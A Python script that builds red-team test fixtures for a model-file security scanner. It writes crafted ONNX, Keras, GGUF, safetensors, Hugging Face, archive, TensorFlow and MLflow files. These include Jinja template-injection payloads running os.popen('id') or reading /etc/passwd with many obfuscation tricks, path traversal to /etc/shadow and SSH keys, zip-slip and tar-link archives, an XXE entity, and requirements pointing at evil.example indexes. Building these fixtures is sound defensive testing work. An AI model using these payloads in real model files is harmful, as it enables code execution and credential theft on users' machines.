#!/usr/bin/python3
"""make_redteam.py: builds the red-team attack fixtures (formats other than
pickle/PyTorch/NumPy/joblib) that formats/all/redteam_test.go scans.

    cd testdata/redteam && /usr/bin/python3 make_redteam.py .

Needs Debian's python3-onnx, -h5py, -numpy (not the runtime). Every attack is
written under <format>/<attack>; labels.tsv (kept by hand beside this script)
says the rule each must raise, or "safe" for files the loader refuses."""
import io, json, os, struct, sys, tarfile, zipfile, zlib, shutil
import numpy as np
import onnx
from onnx import helper, TensorProto, numpy_helper
import h5py

OUT = sys.argv[1] if len(sys.argv) > 1 else "."

def p(*a):
    d = os.path.join(OUT, *a)
    os.makedirs(os.path.dirname(d), exist_ok=True)
    return d

def w(path, data):
    with open(p(path), "wb" if isinstance(data, bytes) else "w") as f:
        f.write(data)

# ---------------------------------------------------------------- ONNX
def ext_tensor(name, loc, extra=()):
    t = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[1])
    t.data_location = TensorProto.EXTERNAL
    for k, v in [("location", loc), ("offset", "0"), ("length", "4")] + list(extra):
        e = t.external_data.add(); e.key = k; e.value = v
    return t

def small_graph(nodes=(), inits=(), name="g", outs=("y",)):
    return helper.make_graph(list(nodes), name, [],
        [helper.make_tensor_value_info(o, TensorProto.FLOAT, [1]) for o in outs], initializer=list(inits))

def save_onnx(path, model):
    w(path, model.SerializeToString())
    w(os.path.join(os.path.dirname(path), "w.data"), b"\0" * 16)

# 1. external data named by a Constant node inside an If branch (nested graph)
then_g = small_graph([helper.make_node("Constant", [], ["y"], value=ext_tensor("c", "../../../../etc/passwd"))], name="then")
else_g = small_graph([helper.make_node("Constant", [], ["y"], value=numpy_helper.from_array(np.zeros(1, np.float32)))], name="else")
g = helper.make_graph([helper.make_node("Constant", [], ["cond"], value=numpy_helper.from_array(np.array(True))),
    helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)], "main", [],
    [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
save_onnx("onnx/ext-in-if-branch/model.onnx", helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)]))

# 2. external data in a model-local function's Constant node
fn = helper.make_function("local.fns", "Leak", [], ["y"],
    [helper.make_node("Constant", [], ["y"], value=ext_tensor("c", "/etc/shadow"))], [helper.make_opsetid("", 17)])
g = small_graph([helper.make_node("Leak", [], ["y"], domain="local.fns")])
save_onnx("onnx/ext-in-function/model.onnx", helper.make_model(g, functions=[fn],
    opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local.fns", 1)]))

# 3. external data in a sparse initializer's values
vals = ext_tensor("sp_values", "..\\..\\secret.bin")
idx = numpy_helper.from_array(np.array([0], np.int64), "sp_idx")
sp = helper.make_sparse_tensor(vals, idx, [4])
g = small_graph([helper.make_node("Identity", ["sp_values"], ["y"])])
g.sparse_initializer.append(sp)
save_onnx("onnx/ext-sparse-initializer/model.onnx", helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)]))

# 4. external data in TrainingInfoProto initialization graph
m = helper.make_model(small_graph([helper.make_node("Constant", [], ["y"], value=numpy_helper.from_array(np.zeros(1, np.float32)))]),
    opset_imports=[helper.make_opsetid("", 17)])
ti = m.training_info.add()
ti.initialization.CopyFrom(small_graph([], [ext_tensor("t", "/proc/self/environ")], name="init", outs=()))
save_onnx("onnx/ext-training-info/model.onnx", m)

# 5. external data in a node attribute list (AttributeProto.tensors)
n = helper.make_node("Identity", ["x"], ["y"])
a = n.attribute.add(); a.name = "extra"; a.type = onnx.AttributeProto.TENSORS
a.tensors.append(ext_tensor("t", "C:/Windows/win.ini"))
save_onnx("onnx/ext-attr-tensors/model.onnx", helper.make_model(small_graph([n]), opset_imports=[helper.make_opsetid("", 17)]))

# 6. repeated location keys: first safe, last escapes (protobuf map: last wins in C++ ORT)
t = ext_tensor("w", "w.data", extra=[("location", "../../../etc/hostname")])
save_onnx("onnx/ext-duplicate-location/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# 7. location with NTFS alternate data stream
t = ext_tensor("w", "w.data::$DATA")
save_onnx("onnx/ext-ntfs-stream/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# 8. location with Windows reserved device name plus extension
t = ext_tensor("w", "sub/CON.bin")
save_onnx("onnx/ext-reserved-name/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# 9. \\?\ extended path
t = ext_tensor("w", "\\\\?\\C:\\secret.bin")
save_onnx("onnx/ext-extended-path/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# 10. trailing dot/space climbing ".. /" and "..."
t = ext_tensor("w", "a/.. ./../x.bin")
save_onnx("onnx/ext-trailing-dot-space/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# 11. offset + length overflow int64
t = ext_tensor("w", "w.data")
del t.external_data[:]
for k, v in [("location", "w.data"), ("offset", "9223372036854775800"), ("length", "100")]:
    e = t.external_data.add(); e.key = k; e.value = v
save_onnx("onnx/ext-offset-overflow/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# 12. custom-op domain inside a Loop body only (shared library custom op)
body = helper.make_graph([helper.make_node("Identity", ["c"], ["c_out"]), helper.make_node("RunShell", ["c"], ["o"], domain="ai.evil.ops")],
    "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
    [helper.make_tensor_value_info("c_out", TensorProto.BOOL, []), helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])])
g = helper.make_graph([helper.make_node("Loop", ["M", "cond"], ["y"], body=body)], "main",
    [helper.make_tensor_value_info("M", TensorProto.INT64, []), helper.make_tensor_value_info("cond", TensorProto.BOOL, [])],
    [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 1])])
w("onnx/custom-op-in-loop-body.onnx", helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString())

# 14. external location is URL-ish with percent-encoding of ..
t = ext_tensor("w", "file:%2e%2e/%2e%2e/etc/passwd")
save_onnx("onnx/ext-file-url/model.onnx", helper.make_model(small_graph([helper.make_node("Identity", ["w"], ["y"])], [t]),
    opset_imports=[helper.make_opsetid("", 17)]))

# ---------------------------------------------------------------- Keras 3 (.keras zip)
def keras_zip(path, config):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    w(path, buf.getvalue())

def seq(layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}, "registered_name": None}

def dense(**kw):
    d = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1, **kw}, "registered_name": None}
    return d

# CVE-2025-9905 class: safe-mode bypass by loading a legacy .h5 through a Keras function
keras_zip("keras/load-h5-function.keras", seq([dense(activation={"module": "keras.src.legacy.saving.legacy_h5_format",
    "class_name": "function", "config": "load_model_from_hdf5", "registered_name": None})]))
# keras function that extracts archives (writes files)
keras_zip("keras/extract-archive-function.keras", seq([dense(activation={"module": "keras.src.utils.file_utils",
    "class_name": "function", "config": "extract_archive", "registered_name": None})]))
# CVE-2025-8747 class: get_file via keras.utils as a function
keras_zip("keras/get-file-function.keras", seq([dense(kernel_initializer={"module": "keras.utils",
    "class_name": "function", "config": "get_file", "registered_name": None})]))
# function from a third-party module named only in registered_name-less function form
keras_zip("keras/numpy-load-function.keras", seq([dense(activation={"module": "numpy",
    "class_name": "function", "config": "load", "registered_name": None})]))
# builtins function through a non-obvious name (exec via `builtins` with class_name on function)
keras_zip("keras/builtins-exec.keras", seq([dense(activation={"module": "builtins",
    "class_name": "function", "config": "exec", "registered_name": None})]))
# __lambda__ nested deep in a layer config of a wrapper
keras_zip("keras/lambda-in-wrapper.keras", seq([{"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td",
    "layer": {"module": "keras.layers", "class_name": "Dense", "config": {"name": "x", "units": 1,
    "activation": {"class_name": "__lambda__", "config": {"value": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTAKkBTqkAqQHaAXhyAQAAAHIBAAAA+gE8bGFtYmRhPnIDAAAA"}}}}}, "registered_name": None}])) 
# keras.saving.load_model via Keras-module function (nested model file)
keras_zip("keras/keras-saving-deserialize.keras", seq([dense(activation={"module": "keras.saving",
    "class_name": "function", "config": "deserialize_keras_object", "registered_name": None})]))
# keras module traversal: module names keras but a submodule reaching os via attribute
keras_zip("keras/keras-src-os-reexport.keras", seq([dense(activation={"module": "keras.src.utils.file_utils",
    "class_name": "function", "config": "os", "registered_name": None})]))
# class_name shaped as a dotted path (legacy resolution): "keras.layers.Lambda"
keras_zip("keras/dotted-lambda.keras", seq([{"module": "keras.layers", "class_name": "Lambda ", "config": {"name": "l",
    "function": {"class_name": "__lambda__", "config": {"code": "print(1)"}}}, "registered_name": None}]))

# ---------------------------------------------------------------- Keras .h5
def h5_model(path, cfg, extra=None):
    with h5py.File(p(path), "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        f.create_group("model_weights")
        if extra:
            extra(f)

legacy_seq = lambda layers: {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
# h5 with an external link to a file outside
def extlink(f):
    f["model_weights/leak"] = h5py.ExternalLink("/etc/passwd", "/")
h5_model("keras/h5-external-link.h5", legacy_seq([{"class_name": "Dense", "config": {"name": "d", "units": 1}}]), extlink)
# h5 with a dataset whose storage is an external raw file
def extfile(f):
    f.create_dataset("model_weights/ext", shape=(4,), dtype="u1", external=[("/etc/hostname", 0, 4)])
h5_model("keras/h5-external-storage.h5", legacy_seq([{"class_name": "Dense", "config": {"name": "d", "units": 1}}]), extfile)
# h5 virtual dataset sourcing another file
def vds(f):
    lay = h5py.VirtualLayout(shape=(4,), dtype="u1")
    lay[:] = h5py.VirtualSource("../secret.h5", "data", shape=(4,))
    f.create_virtual_dataset("model_weights/vds", lay, fillvalue=0)
h5_model("keras/h5-virtual-dataset.h5", legacy_seq([{"class_name": "Dense", "config": {"name": "d", "units": 1}}]), vds)
# TFOpLambda calling a file op through raw_ops alias
h5_model("keras/h5-tfoplambda-readfile.h5", {"class_name": "Functional", "config": {"name": "f", "layers": [
    {"class_name": "TFOpLambda", "config": {"name": "t", "function": "raw_ops.ReadFile"}, "name": "t", "inbound_nodes": []}]}})
# Lambda hidden in a nested Functional inside a Sequential inside a Bidirectional
h5_model("keras/h5-nested-lambda.h5", legacy_seq([{"class_name": "Bidirectional", "config": {"name": "b",
    "layer": {"class_name": "Functional", "config": {"name": "inner", "layers": [{"class_name": "Lambda", "config": {"name": "l",
    "function": ["4wEAAAAA", None, None], "function_type": "lambda"}}]}}}}]))
# model_config attribute present twice (HDF5 attribute names with different encodings)? use training_config instead
h5_model("keras/h5-training-config-custom-loss.h5", legacy_seq([{"class_name": "Dense", "config": {"name": "d", "units": 1}}]),
    lambda f: f.attrs.__setitem__("training_config", json.dumps({"loss": {"class_name": "function", "module": "os", "config": "system"},
        "optimizer_config": {"class_name": "Adam", "config": {}}})))

# ---------------------------------------------------------------- GGUF
def gguf_str(s):
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("<Q", len(b)) + b

def gguf(kvs, tensors=(), align=32, data=b""):
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs))
    for k, typ, v in kvs:
        out += gguf_str(k) + struct.pack("<I", typ) + v
    for name, dims, ttype, off in tensors:
        out += gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", ttype, off)
    pad = (-len(out)) % align
    return out + b"\0" * pad + data

S = lambda v: gguf_str(v)
T = [("w", [4], 0, 0)]
def tmpl_gguf(path, tmpl, key="tokenizer.chat_template"):
    w(path, gguf([("general.architecture", 8, S("llama")), (key, 8, S(tmpl))], T, data=b"\0" * 16))

tmpl_gguf("gguf/named-template-tool-use.gguf", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", key="tokenizer.chat_template.tool_use")
tmpl_gguf("gguf/template-attr-concat.gguf", "{% set a = '__glo' ~ 'bals__' %}{{ (cycler.__init__|attr(a))['os'].popen('id').read() }}")
tmpl_gguf("gguf/template-reverse-string.gguf", "{% set g = '__slabolg__'|reverse %}{{ (joiner.__init__|attr(g)).os.system('id') }}")
tmpl_gguf("gguf/template-format-chars.gguf", "{% set g = '%c%c%c%c%c%c%c%c%c%c%c'|format(95,95,103,108,111,98,97,108,115,95,95) %}{{ lipsum|attr(g) }}")
tmpl_gguf("gguf/template-join-list.gguf", "{% set g = ['_','_','globals','_','_']|join %}{{ (namespace.__init__|attr(g)).__builtins__.eval('1') }}")
tmpl_gguf("gguf/template-macro-caller.gguf", "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}{% endcall %}")
tmpl_gguf("gguf/template-filter-block.gguf", "{% filter attr('__class__') %}x{% endfilter %}{{ ''.__class__.__mro__[1].__subclasses__() }}")
tmpl_gguf("gguf/template-dict-key-attr.gguf", "{% set d = dict(__class__=1) %}{% for k in d %}{{ (''|attr(k)).__base__.__subclasses__() }}{% endfor %}")
tmpl_gguf("gguf/template-replace-build.gguf", "{% set g = 'XXglobalsXX'|replace('X','_') %}{{ (cycler.next|attr(g)) }}")
tmpl_gguf("gguf/template-messages-attr.gguf", "{% for m in messages %}{{ m|attr(m['role']) }}{% endfor %}")
tmpl_gguf("gguf/template-loop-cycle-attr.gguf", "{% for x in range(1) %}{{ (loop|attr('__class__')).__init__.__globals__ }}{% endfor %}")
tmpl_gguf("gguf/template-escape-unicode.gguf", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'].__mro__[1].__subclasses__() }}")
tmpl_gguf("gguf/template-set-block.gguf", "{% set g %}__globals__{% endset %}{{ (cycler.__init__|attr(g|trim)).os.popen('id').read() }}")
tmpl_gguf("gguf/template-import-self.gguf", "{% import 'x' as y %}{{ y }}")
tmpl_gguf("gguf/template-map-attribute.gguf", "{{ [cycler]|map(attribute='__init__')|map(attribute='__globals__')|list }}")
tmpl_gguf("gguf/template-selectattr-tests.gguf", "{{ ([cycler.__init__]|map(attribute='__glob'+'als__')|first).os.popen('id').read() }}")
tmpl_gguf("gguf/template-string-fromcodes.gguf", "{% set g = '\\x5f\\x5fglobals\\x5f\\x5f' %}{{ (cycler.__init__|attr(g)) }}")
tmpl_gguf("gguf/template-tojson-key.gguf", "{% set k = ({'__globals__':1}|list)[0] %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-batch-slice.gguf", "{% set k = ('_','_','globals','_','_')|batch(5)|first|join %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-string-method.gguf", "{% set k = '{0}{0}globals{0}{0}'.format('_') %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-upper-lower.gguf", "{% set k = '__GLOBALS__'|lower %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-center.gguf", "{% set k = 'globals'|center(11)|replace(' ','_') %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-wordwrap-join.gguf", "{% set k = ('_' * 2) ~ 'globals' ~ ('_' * 2) %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-urlencode-chain.gguf", "{% set k = ('%5F%5Fglobals%5F%5F'|urlencode) %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-namespace-attr.gguf", "{% set ns = namespace(k='__globals__') %}{{ cycler.__init__|attr(ns.k) }}")
tmpl_gguf("gguf/template-string-slice.gguf", "{% set k = 'xx__globals__xx'[2:13] %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-items-key.gguf", "{% for k, v in {'__globals__': 0}.items() %}{{ cycler.__init__|attr(k) }}{% endfor %}")
tmpl_gguf("gguf/template-sum-strings.gguf", "{% set k = ['__', 'globals', '__']|sum(start='') %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-dictsort.gguf", "{% set k = ({'__globals__':1}|dictsort)[0][0] %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-min-max.gguf", "{% set k = ['__globals__']|max %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-striptags.gguf", "{% set k = '<b>__globals__</b>'|striptags %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-title-swapcase.gguf", "{% set k = '__GLOBALS__'.lower() %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-split-join.gguf", "{% set k = '__ globals __'.split()|join %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-unique.gguf", "{% set k = ['__globals__','__globals__']|unique|first %}{{ cycler.__init__|attr(k) }}")
tmpl_gguf("gguf/template-recursive-loop.gguf", "{% for x in [1] recursive %}{{ loop([])|attr('__class__') }}{% endfor %}")
# duplicate chat template key: first benign, last malicious (llama.cpp keeps which?)
w("gguf/duplicate-template-key.gguf", gguf([("general.architecture", 8, S("llama")), ("tokenizer.chat_template", 8, S("{{ messages }}")),
    ("tokenizer.chat_template", 8, S("{{ cycler.__init__.__globals__.os.popen('id').read() }}"))], T, data=b"\0" * 16))
# tensor offset pointing past EOF
w("gguf/tensor-past-eof.gguf", gguf([("general.architecture", 8, S("llama"))], [("w", [1 << 20], 0, 0)], data=b"\0" * 16))
# metadata array count overflow
w("gguf/array-count-overflow.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + gguf_str("x") + struct.pack("<IIQ", 9, 4, (1 << 64) - 1))
# key length huge
w("gguf/key-length-huge.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"abc")
# alignment zero / non power of two
w("gguf/alignment-not-pow2.gguf", gguf([("general.alignment", 4, struct.pack("<I", 24))], [("w", [4], 0, 0)], data=b"\0" * 64))

# ---------------------------------------------------------------- safetensors
def st(header_bytes, data=b""):
    return struct.pack("<Q", len(header_bytes)) + header_bytes + data
hdr = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"\\u0077":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}'
w("safetensors/escaped-duplicate-key.safetensors", st(hdr, b"\0" * 8))
hdr = b'{"__metadata__":{"a":"b"},"__metadat\\u0061__":{"x":"y"},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
w("safetensors/escaped-duplicate-metadata.safetensors", st(hdr, b"\0" * 4))
hdr = b'{"w\\ud800":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
w("safetensors/lone-surrogate-name.safetensors", st(hdr, b"\0" * 4))
hdr = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"dtype":"F64"}}'
w("safetensors/duplicate-field-in-entry.safetensors", st(hdr, b"\0" * 8))
hdr = b'{"w":{"dtype":"F32","shape":[18446744073709551615, 2],"data_offsets":[0,8]}}'
w("safetensors/shape-product-overflow.safetensors", st(hdr, b"\0" * 8))

# ---------------------------------------------------------------- Hugging Face folders
def hfdir(name, files):
    for fn, content in files.items():
        w(f"hf/{name}/{fn}", content if isinstance(content, (bytes, str)) else json.dumps(content))
cfg = {"model_type": "llama", "architectures": ["LlamaForCausalLM"]}
hfdir("automap-in-tokenizer-config", {"config.json": cfg, "tokenizer_config.json": {"tokenizer_class": "T",
    "auto_map": {"AutoTokenizer": ["evil/repo--tokenization_x.XTokenizer", None]}}})
hfdir("automap-in-processor-config", {"config.json": cfg, "processor_config.json": {"processor_class": "P",
    "auto_map": {"AutoProcessor": "evil/repo--processing_x.XProcessor"}}})
hfdir("automap-in-feature-extractor", {"config.json": cfg, "feature_extractor.json": {"auto_map": {"AutoFeatureExtractor": "evil/repo--fe.FE"}}})
hfdir("automap-in-image-processor", {"config.json": cfg, "image_processor_config.json": {"auto_map": {"AutoImageProcessor": "evil/repo--ip.IP"}}})
hfdir("automap-in-video-preprocessor", {"config.json": cfg, "video_preprocessor_config.json": {"auto_map": {"AutoVideoProcessor": "evil/repo--vp.VP"}}})
hfdir("automap-escaped-key", {"config.json": '{"model_type":"x","auto\\u005fmap":{"AutoModel":"evil/repo--m.M"}}'})
hfdir("chat-template-jinja-file", {"config.json": cfg, "tokenizer_config.json": {"tokenizer_class": "T"},
    "chat_template.jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"})
hfdir("additional-chat-templates", {"config.json": cfg, "tokenizer_config.json": {"tokenizer_class": "T"},
    "additional_chat_templates/tool_use.jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"})
hfdir("diffusers-custom-component", {"model_index.json": {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "EvilUNet"]}})
hfdir("diffusers-custom-pipeline", {"model_index.json": {"_class_name": ["pipeline_evil", "EvilPipeline"]}})
hfdir("custom-pipeline-in-config", {"config.json": {**cfg, "custom_pipelines": {"text-gen": {"impl": "evil/repo--pipe.P", "pt": ["AutoModel"]}}}})
hfdir("tokenizer-file-python", {"config.json": cfg, "tokenizer_config.json": {"tokenizer_class": "T", "tokenizer_file": "tokenization_x.py"}})
hfdir("adapter-remote-code", {"adapter_config.json": {"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "evil_module"}, "base_model_name_or_path": "x"}})
hfdir("sentence-transformers-router", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Router"}],
    "router_config.json": {"types": {"q": "evil_module.Leak"}}, "config_sentence_transformers.json": {}})
hfdir("generation-config-custom-generate", {"config.json": cfg, "generation_config.json": {"custom_generate": "evil/repo", "trust_remote_code": True}})
hfdir("py-in-custom-generate-folder", {"config.json": cfg, "custom_generate/generate.py": "import os\nos.system('id')\n"})
hfdir("pyc-beside-model", {"config.json": cfg, "__pycache__/modeling_x.cpython-312.pyc": b"\x00" * 32})

# ---------------------------------------------------------------- archives
def zipbytes(entries, mutate=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in entries:
            z.writestr(n, d)
    b = buf.getvalue()
    return mutate(b) if mutate else b
# backslash traversal
w("archive/backslash-traversal.zip", zipbytes([("..\\..\\evil.pth", b"x")]))
# unicode path extra field naming a different file than the header name
def unicode_extra(name, real):
    zi = zipfile.ZipInfo(name)
    up = real.encode()
    data = struct.pack("<B", 1) + struct.pack("<I", zlib.crc32(name.encode())) + up
    zi.extra = struct.pack("<HH", 0x7075, len(data)) + data
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zi, b"payload")
    return buf.getvalue()
w("archive/unicode-path-extra.zip", unicode_extra("model.bin", "../../.bashrc"))
# local header name differs from central directory name
def mutate_local(b):
    i = b.index(b"PK\x03\x04")
    nlen = struct.unpack("<H", b[i+26:i+28])[0]
    return b[:i+30] + b"evil.pkl"[:nlen].ljust(nlen, b"_") + b[i+30+nlen:]
w("archive/local-central-mismatch.zip", zipbytes([("good.txt", b"hello")], mutate_local))
# tar: hardlink to outside, symlink then write-through
def tarbytes(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for ti, data in members:
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()
hl = tarfile.TarInfo("model.bin"); hl.type = tarfile.LNKTYPE; hl.linkname = "../../../etc/passwd"
w("archive/tar-hardlink-out.tar", tarbytes([(hl, None)]))
sl = tarfile.TarInfo("d"); sl.type = tarfile.SYMTYPE; sl.linkname = "/tmp"
f2 = tarfile.TarInfo("d/evil.sh"); f2.size = 3
w("archive/tar-symlink-then-write.tar", tarbytes([(sl, None), (f2, b"abc")]))
px = tarfile.TarInfo("innocent.txt"); px.size = 3; px.pax_headers = {"path": "../../evil.txt"}
w("archive/tar-pax-path.tar", tarbytes([(px, b"abc")]))
# gzip-compressed tar bomb (ratio)
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    ti = tarfile.TarInfo("zeros.bin"); ti.size = 200 << 20
    class Z:
        def __init__(s): s.n = ti.size
        def read(s, k=-1):
            k = s.n if k < 0 else min(k, s.n); s.n -= k; return b"\0" * k
    t.addfile(ti, Z())
w("archive/tar-gz-bomb.tar.gz", buf.getvalue())
# zip member with a trailing-dot name that collides on Windows
w("archive/windows-collision.zip", zipbytes([("model.pkl", b"a"), ("MODEL.pkl.", b"b")]))
# zip: directory entry that carries data
w("archive/zip-abs-drive.zip", zipbytes([("C:/Users/Public/evil.bat", b"x")]))

# ---------------------------------------------------------------- TF.js / others
w("tfjs/absolute-url-shard/model.json", json.dumps({"format": "layers-model", "modelTopology": {},
    "weightsManifest": [{"paths": ["https://evil.example/leak.bin"], "weights": [{"name": "w", "shape": [1], "dtype": "float32"}]}]}))
w("tfjs/layers-lambda-topology/model.json", json.dumps({"format": "layers-model", "modelTopology": {"class_name": "Sequential",
    "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "l", "function": "eval"}}]}}, "weightsManifest": []}))
w("openvino/external-entity/model.xml", '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<net name="m" version="11"><layers/></net>\n')
w("openvino/external-entity/model.bin", b"")

# ================================================================ round 2
def varint(n):
    out = b""
    while True:
        b = n & 0x7f; n >>= 7
        if n: out += bytes([b | 0x80])
        else: return out + bytes([b])
def ld(field, payload):
    if isinstance(payload, str): payload = payload.encode()
    return varint(field << 3 | 2) + varint(len(payload)) + payload
def vi(field, n): return varint(field << 3) + varint(n)
def attr_s(key, sval): return ld(5, ld(1, key) + ld(2, ld(2, sval)))
def node(name, op, *attrs): return ld(1, name) + ld(2, op) + b"".join(attrs)
def saved_model(graph): return vi(1, 1) + ld(2, ld(2, graph))
# PyFunc hidden in a FunctionDef of the graph's function library
fdef = ld(1, ld(1, "__inference_call_42")) + ld(3, node("pf", "EagerPyFunc", attr_s("token", "pyfunc_0")))
w("tf/pyfunc-in-function-library/saved_model.pb", saved_model(ld(1, node("x", "Const")) + ld(2, ld(1, fdef))))
w("tf/csv-dataset-op/saved_model.pb", saved_model(ld(1, node("c", "CSVDatasetV2"))))
w("tf/snapshot-dataset-op/saved_model.pb", saved_model(ld(1, node("s", "SnapshotDatasetV2", attr_s("compression", "")))))
w("tf/filesystem-config-op/saved_model.pb", saved_model(ld(1, node("f", "FileSystemSetConfiguration"))))
w("tf/printv2-file-in-function/saved_model.pb", saved_model(ld(1, node("x", "Const")) + ld(2, ld(1, ld(1, ld(1, "f")) + ld(3, node("p", "PrintV2", attr_s("output_stream", "file:///home/user/.bashrc")))))))

# ONNX EPContext in a nested graph pointing out of the folder
epn = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=0, ep_cache_context="../../../etc/passwd")
then_g = small_graph([epn], name="then")
else_g = small_graph([helper.make_node("Constant", [], ["y"], value=numpy_helper.from_array(np.zeros(1, np.float32)))], name="else")
g = helper.make_graph([helper.make_node("Constant", [], ["cond"], value=numpy_helper.from_array(np.array(True))),
    helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)], "main", [],
    [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
save_onnx("onnx/epcontext-in-subgraph/model.onnx", helper.make_model(g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)]))
# standalone TensorProto file (test_data_set input) with external data escaping
w("onnx/tensor-pb-external/test_data_set_0/input_0.pb", ext_tensor("input", "../../../../root/.ssh/id_rsa").SerializeToString())

# MLflow environment installing from elsewhere
mlmodel = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env:\n      virtualenv: python_env.yaml\n      conda: conda.yaml\n"
w("mlflow/requirements-git-url/MLmodel", mlmodel)
w("mlflow/requirements-git-url/model.pkl", b"\x80\x04N.")
w("mlflow/requirements-git-url/requirements.txt", "mlflow==2.9.0\nscikit-learn==1.3.0\ngit+https://github.com/evil/sklearn-helpers.git@main#egg=helpers\n")
w("mlflow/python-env-extra-index/MLmodel", mlmodel)
w("mlflow/python-env-extra-index/model.pkl", b"\x80\x04N.")
w("mlflow/python-env-extra-index/python_env.yaml", "python: 3.10.12\nbuild_dependencies:\n- pip==23.1\ndependencies:\n- -r requirements.txt\n")
w("mlflow/python-env-extra-index/requirements.txt", "--extra-index-url https://pypi.evil.example/simple\nmlflow==2.9.0\nscikit-learn==1.3.0\n")
w("mlflow/conda-pip-direct-ref/MLmodel", mlmodel)
w("mlflow/conda-pip-direct-ref/model.pkl", b"\x80\x04N.")
w("mlflow/conda-pip-direct-ref/conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip<=23.1\n- pip:\n  - mlflow==2.9.0\n  - sklearn-helpers @ https://evil.example/helpers-1.0.tar.gz\nname: mlflow-env\n")

# safetensors shard index naming shards out of the folder / a pickle shard
w("safetensors/index-shard-escape/model.safetensors.index.json", json.dumps({"metadata": {"total_size": 4},
    "weight_map": {"w": "../../../etc/passwd"}}))
w("safetensors/index-shard-escape/config.json", json.dumps(cfg))
